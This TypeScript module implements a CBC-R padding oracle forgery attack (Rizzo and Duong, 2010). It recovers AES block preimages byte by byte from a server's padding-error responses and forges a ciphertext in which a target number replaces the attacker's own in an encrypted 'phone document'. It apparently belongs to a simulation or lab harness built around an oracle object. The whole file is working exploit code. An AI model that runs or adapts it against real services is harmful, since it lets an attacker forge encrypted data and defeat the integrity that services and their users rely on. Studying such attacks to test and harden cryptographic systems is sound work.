import type { Attacker } from '../attacker.js';
import { BLOCK, padded, randomBlock, splitBlocks, xor } from '../blocks.js';
import type { CountedOracle, Query } from '../oracle.js';

/** In front of the two blocks that matter, so that a query is as long as a phone document. */
const FILLER_BLOCKS = 5;
const AT_ONCE = 32;

/**
 * CBC-R: Vaudenay's padding oracle tells what AES makes of any block, and so encrypts any text from its end to its iv.
 * Only the blocks up to the last changed one are needed; the rest is the attacker's own document.
 * Source: Rizzo and Duong, "Practical Padding Oracle Attacks", USENIX WOOT 2010, section 3.
 */
export async function paddingOracleForgery(oracle: CountedOracle, attacker: Attacker, number: string): Promise<void> {
  await oracle.askAll(Array.from({ length: 8 }, () => probe(randomBlock(), randomBlock())));
  const wrongPadding = oracle.commonest;
  const own = attacker.tap();
  const wanted = splitBlocks(padded(own.text.replaceAll(attacker.ownNumber, number)));
  const last = Math.floor(own.text.lastIndexOf(attacker.ownNumber) / BLOCK);

  for (;;) {
    const blocks = own.blocks.slice(last);
    let preimage: Buffer | undefined = own.preimage(last);
    for (let i = last; i > 0 && preimage !== undefined; i -= 1) {
      const block = xor(preimage, wanted[i] ?? randomBlock());
      blocks.unshift(block);
      preimage = await preimageOf(block, oracle, wrongPadding);
    }
    if (preimage === undefined) continue;
    await oracle.ask({ encryptedData: Buffer.concat(blocks), iv: xor(preimage, wanted[0] ?? randomBlock()) });
    return;
  }
}

/** Decrypts this block byte by byte from the end; undefined if the server's answers do not tell. */
async function preimageOf(block: Buffer, oracle: CountedOracle, wrongPadding: string): Promise<Buffer | undefined> {
  const preimage = Buffer.alloc(BLOCK);
  for (let at = BLOCK - 1; at >= 0; at -= 1) {
    const padding = BLOCK - at;
    const front = randomBlock();
    for (let i = at + 1; i < BLOCK; i += 1) front[i] = byteOf(preimage, i) ^ padding;
    const guess = await rightGuess(front, at, block, oracle, wrongPadding);
    if (guess === undefined) return undefined;
    preimage[at] = guess ^ padding;
  }
  return preimage;
}

async function rightGuess(
  front: Buffer,
  at: number,
  block: Buffer,
  oracle: CountedOracle,
  wrongPadding: string,
): Promise<number | undefined> {
  for (let from = 0; from < 256; from += AT_ONCE) {
    const guesses = Array.from({ length: AT_ONCE }, (_, i) => from + i);
    const answers = await oracle.askAll(guesses.map((guess) => probe(withByte(front, at, guess), block)));
    for (const guess of guesses.filter((_, i) => answers[i]?.text !== wrongPadding)) {
      if (at < BLOCK - 1) return guess;
      // The padding may be a longer one by chance: then another byte in front of it spoils it.
      const other = withByte(withByte(front, at, guess), at - 1, byteOf(front, at - 1) ^ 0xff);
      if ((await oracle.ask(probe(other, block))).text !== wrongPadding) return guess;
    }
  }
  return undefined;
}

function probe(front: Buffer, block: Buffer): Query {
  const filler = Array.from({ length: FILLER_BLOCKS }, randomBlock);
  return { encryptedData: Buffer.concat([...filler, front, block]), iv: randomBlock() };
}

function withByte(block: Buffer, at: number, byte: number): Buffer {
  const copy = Buffer.from(block);
  copy[at] = byte;
  return copy;
}

function byteOf(block: Buffer, at: number): number {
  return block[at] ?? 0;
}
